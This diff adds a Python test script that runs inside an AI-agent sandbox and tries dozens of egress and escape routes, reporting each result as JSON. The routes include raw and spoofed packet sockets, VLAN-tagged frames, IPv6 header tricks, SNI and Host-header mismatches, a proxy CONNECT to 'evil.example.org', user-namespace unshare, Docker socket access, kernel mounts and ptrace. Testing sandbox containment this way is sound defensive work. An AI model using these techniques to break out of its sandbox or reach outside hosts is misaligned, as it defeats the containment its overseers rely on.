@@ -1,0 +1,411 @@
+"""
+What code inside an agent may try to get out: run inside a sandbox, prints one JSON line per attempt.
+
+Standard library only: it runs with the system's interpreter. An attempt is a function that returns
+normally if it thinks it got through and raises OSError if it was stopped; whether a byte really
+arrived is for the outside world to say. Numbers are the rows of the threat list.
+"""
+
+import array
+import ctypes
+import errno
+import json
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+
+OUT = ("198.51.100.10", 443)
+OPEN = ("203.0.113.66", 6379)  # every port of the world answers; no rule names this one
+MARK = b"escaped-"
+LIMIT_S = 2.0
+ATTEMPTS = []
+
+
+def attempt(row, fast=True):
+    def register(function):
+        ATTEMPTS.append((row, function.__name__, function, fast))
+        return function
+
+    return register
+
+
+def tcp(address=OPEN, family=socket.AF_INET, **options):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(LIMIT_S)
+    for (level, name), value in options.items():
+        s.setsockopt(level, name, value)
+    s.connect(address)
+    s.send(MARK + b"tcp")
+    return s
+
+
+@attempt("1")
+def tcp_connect():
+    tcp()
+
+
+@attempt("1")
+def udp_sendto():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(MARK, ("203.0.113.66", 5000))
+
+
+@attempt("2")
+def icmp_ping_socket():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01" + MARK, (OPEN[0], 0))
+
+
+@attempt("2")
+def icmp6_ping_socket():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58)
+    s.sendto(b"\x80\x00\x00\x00\x00\x01\x00\x01" + MARK, ("2001:db8::10", 0))
+
+
+@attempt("3")
+def ipv6_routing_header():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(41, 57, struct.pack("BBBBI16s", 0, 2, 0, 1, 0, socket.inet_pton(socket.AF_INET6, "2001:db8::10")))
+    s.sendto(MARK, ("::1", 5000))
+
+
+@attempt("3")
+def ipv6_destination_options():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(41, 59, bytes(8))
+    s.sendto(MARK, ("2001:db8::10", 5000))
+
+
+@attempt("4")
+def gateway_services():
+    tcp((gateway(), 9902))
+
+
+@attempt("4")
+def host_address_beyond_the_gateway():
+    tcp(("192.0.2.1", 22))
+
+
+@attempt("4")
+def admin_port_of_the_control_plane():
+    tcp((gateway(), 7443))
+
+
+@attempt("5")
+def sibling_sandbox():
+    own = int(own_address().rsplit(".", 1)[1])
+    tcp((own_address().rsplit(".", 1)[0] + f".{own + 1}", 8000))
+
+
+@attempt("7", fast=False)
+def socket_passed_in_from_a_child():
+    # Same cgroup here; the point is that the packet is judged, not who connected.
+    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    pid = os.fork()
+    if pid == 0:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        right.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
+        os._exit(0)
+    _, control, _, _ = left.recvmsg(1, socket.CMSG_SPACE(4))
+    os.waitpid(pid, 0)
+    fd = array.array("i", control[0][2])[0]
+    socket.socket(fileno=fd).sendto(MARK, ("203.0.113.66", 5000))
+
+
+@attempt("10")
+def marked_socket():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(LIMIT_S)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x1)
+    s.connect(OPEN)
+    s.send(MARK)
+
+
+@attempt("11", fast=False)
+def packet_socket_frame():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    s.bind(("eth0", 0))
+    s.send(frame(own_mac(), own_address(), OPEN[0]))
+
+
+@attempt("11", fast=False)
+def packet_socket_spoofed():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    s.bind(("eth0", 0))
+    s.send(frame(b"\x02\xca\x0a\xe7\x50\xfe", "10.231.80.254", OPEN[0]))
+
+
+@attempt("36", fast=False)
+def vlan_tagged_frame():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    s.bind(("eth0", 0))
+    inner = frame(own_mac(), own_address(), OPEN[0])
+    s.send(inner[:12] + b"\x81\x00\x00\x00" + inner[12:])
+    s.send(inner[:12] + b"\x88\xa8\x00\x00\x81\x00\x00\x00" + inner[12:])
+
+
+@attempt("12")
+def raw_socket():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.sendto(ip_packet(own_address(), OPEN[0]), (OPEN[0], 0))
+
+
+@attempt("13")
+def source_route_option():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(OPEN[0]) + b"\x00")
+    s.sendto(MARK, (gateway(), 53))
+
+
+@attempt("15")
+def bound_to_device_and_loopback():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(LIMIT_S)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
+    s.connect(("127.0.0.1", 6379))
+    s.send(MARK)
+
+
+@attempt("17")
+def tcp_fast_open():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(LIMIT_S)
+    s.sendto(MARK, 0x20000000, OPEN)
+
+
+@attempt("17")
+def mptcp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
+    s.settimeout(LIMIT_S)
+    s.connect(OPEN)
+    s.send(MARK)
+
+
+@attempt("17")
+def udp_lite():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
+    s.sendto(MARK, ("203.0.113.66", 5000))
+
+
+@attempt("17")
+def sctp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
+    s.settimeout(LIMIT_S)
+    s.connect(OPEN)
+
+
+@attempt("17")
+def vsock():
+    s = socket.socket(40, socket.SOCK_STREAM)
+    s.settimeout(LIMIT_S)
+    s.connect((2, 1024))
+
+
+@attempt("18")
+def connected_udp_then_elsewhere():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect((gateway(), 53))
+    s.sendto(MARK, ("203.0.113.66", 5000))
+
+
+@attempt("18")
+def udp_cork_then_elsewhere():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(MARK, socket.MSG_MORE, ("203.0.113.66", 5000))
+    s.sendto(MARK, ("203.0.113.66", 5000))
+
+
+@attempt("18")
+def v4_mapped_address():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    s.settimeout(LIMIT_S)
+    s.connect(("::ffff:203.0.113.66", 6379))
+    s.send(MARK)
+
+
+@attempt("18")
+def v4_mapped_datagram():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.sendto(MARK, ("::ffff:203.0.113.66", 5000))
+
+
+@attempt("18")
+def broadcast():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+    s.sendto(MARK, ("255.255.255.255", 5000))
+
+
+@attempt("18")
+def multicast():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(MARK, ("224.0.0.251", 5353))
+
+
+@attempt("18")
+def native_ipv6():
+    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    s.settimeout(LIMIT_S)
+    s.connect(("2001:db8::10", 443))
+
+
+@attempt("19", fast=False)
+def user_namespace_root():
+    libc = ctypes.CDLL(None, use_errno=True)
+    pid = os.fork()
+    if pid == 0:
+        try:
+            if libc.unshare(0x10000000) != 0:
+                os._exit(2)
+            tcp()
+            os._exit(0)
+        except OSError:
+            os._exit(1)
+    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
+    if code:
+        raise OSError(errno.EACCES, f"child ended with {code}")
+
+
+@attempt("20")
+def another_policys_proxy_port():
+    tcp((gateway(), 10000))
+
+
+@attempt("20")
+def dedicated_band_port():
+    tcp((gateway(), 10001))
+
+
+@attempt("21")
+def dns_over_tls_elsewhere():
+    tcp(("203.0.113.66", 853))
+
+
+@attempt("21")
+def another_resolver_for_a_denied_name():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(LIMIT_S)
+    name = b"".join(bytes([len(p)]) + p for p in b"evil.example.org".split(b"."))
+    s.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\x00\x00\x01\x00\x01", ("203.0.113.66", 53))
+    answer = s.recv(512)
+    if answer[3] & 15 == 3:
+        raise OSError(errno.ENOENT, "NXDOMAIN")
+
+
+@attempt("24", fast=False)
+def allowed_address_with_another_sni():
+    import ssl
+
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    with socket.create_connection(OUT, LIMIT_S) as s, context.wrap_socket(s, server_hostname="evil.example.org") as t:
+        t.send(b"GET / HTTP/1.1\r\nHost: evil.example.org\r\nx: " + MARK + b"\r\n\r\n")
+        answer = t.recv(4096)
+        if b" 403 " in answer[:20] or b" 421 " in answer[:20] or not answer:
+            raise OSError(errno.EACCES, "refused by the proxy")
+
+
+@attempt("24", fast=False)
+def host_header_of_another_name():
+    import ssl
+
+    context = ssl.create_default_context()
+    with socket.create_connection(OUT, LIMIT_S) as s, context.wrap_socket(s, server_hostname="api.example.com") as t:
+        t.send(b"GET http://evil.example.org/ HTTP/1.1\r\nHost: evil.example.org\r\nx: " + MARK + b"\r\n\r\n")
+        answer = t.recv(4096)
+        if b" 403 " in answer[:20] or b" 421 " in answer[:20] or not answer:
+            raise OSError(errno.EACCES, "refused by the proxy")
+
+
+@attempt("25", fast=False)
+def connect_method():
+    import ssl
+
+    context = ssl.create_default_context()
+    with socket.create_connection(OUT, LIMIT_S) as s, context.wrap_socket(s, server_hostname="api.example.com") as t:
+        t.send(b"CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n")
+        answer = t.recv(4096)
+        if not answer.startswith(b"HTTP/1.1 200"):
+            raise OSError(errno.EACCES, "refused by the proxy")
+
+
+@attempt("33")
+def engine_resolver_port():
+    tcp(("127.0.0.11", 40000))
+
+
+@attempt("35")
+def host_unix_sockets():
+    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock"):
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        try:
+            s.connect(path)
+        except OSError:
+            continue
+        return
+    raise OSError(errno.ENOENT, "none is visible")
+
+
+@attempt("35")
+def mount_of_kernel_file_systems():
+    libc = ctypes.CDLL(None, use_errno=True)
+    for kind in (b"bpf", b"cgroup2", b"sysfs"):
+        if libc.mount(b"none", b"/tmp", kind, 0, None) == 0:
+            return
+    raise OSError(ctypes.get_errno(), "mount refused")
+
+
+@attempt("35")
+def tracing_a_process_of_the_host():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.ptrace(16, 4000, 0, 0) == 0:
+        return
+    raise OSError(ctypes.get_errno(), "no such process here")
+
+
+def gateway():
+    for line in open("/etc/resolv.conf"):
+        if line.startswith("nameserver"):
+            return line.split()[1]
+    raise RuntimeError("no nameserver")
+
+
+def own_address():
+    return socket.gethostbyname(socket.gethostname())
+
+
+def own_mac():
+    return b"\x02\xca" + socket.inet_aton(own_address())
+
+
+def ip_packet(source, destination):
+    body = struct.pack("!HHHH", 4000, 5000, 8 + len(MARK), 0) + MARK
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(destination))
+    total = sum(struct.unpack("!10H", head))
+    total = (total & 0xFFFF) + (total >> 16)
+    return head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:] + body
+
+
+def frame(mac, source, destination):
+    return b"\xff" * 6 + mac + b"\x08\x00" + ip_packet(source, destination)
+
+
+def main():
+    for row, name, function, fast in ATTEMPTS:
+        started = time.monotonic()
+        try:
+            function()
+            result = "through"
+        except OSError as error:
+            result = f"{errno.errorcode.get(error.errno or 0, 'OSError')}: {error}"
+        except Exception as error:  # noqa: BLE001 - anything else is reported, never hidden
+            result = f"through? {type(error).__name__}: {error}"
+        print(json.dumps({"row": row, "name": name, "result": result, "s": time.monotonic() - started, "fast": fast}), flush=True)
+
+
+if __name__ == "__main__":
+    main()
